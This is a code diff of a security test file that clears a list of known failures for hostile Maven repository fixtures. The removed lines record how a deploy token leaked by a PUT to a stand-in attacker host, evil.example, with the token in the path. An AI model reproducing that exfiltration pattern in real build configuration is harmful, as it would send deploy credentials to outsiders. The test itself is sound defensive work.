@@ -12,38 +12,7 @@ export interface KnownFailure {
  * Hostile repositories that fail today, by their id. The suite is green with them; one that is well and still listed
  * turns it red.
  */
-export const failsToday: ReadonlyMap<string, KnownFailure> = new Map<string, KnownFailure>([
-  [
-    "maven-expand-distribution",
-    { today: "elsewhere: PUT https://evil.example/<token>/maven/com/lab/app/1.0.0/app-1.0.0.pom (as it is)" },
-  ],
-  [
-    "maven-expressions",
-    {
-      today:
-        "elsewhere: PUT https://evil.example/m0/<token>/com/lab/m0/1.0.0/m0-1.0.0.pom (as it is), and 4 more",
-    },
-  ],
-  [
-    "maven-expand-distribution-3.8",
-    { today: "elsewhere: PUT https://evil.example/<token>/maven/com/lab/app/1.0.0/app-1.0.0.pom (as it is)" },
-  ],
-  [
-    "maven-expressions-3.8",
-    {
-      today:
-        "elsewhere: PUT https://evil.example/m0/<token>/com/lab/m0/1.0.0/m0-1.0.0.pom (as it is), and 4 more",
-    },
-  ],
-  [
-    "maven-innocent-alternative",
-    { today: "works: mvn deploy with the project's id on the command line has no credentials, and gets 401" },
-  ],
-  [
-    "maven-innocent-snapshot-3.8",
-    { today: "works: the deploy plugin 2.7 does not know a repository for snapshots alone, and gets 401" },
-  ],
-]);
+export const failsToday: ReadonlyMap<string, KnownFailure> = new Map<string, KnownFailure>([]);
 
 /**
  * Hostile repositories that no setting of ours keeps from the token, by their id; docs/security.md has them under "What
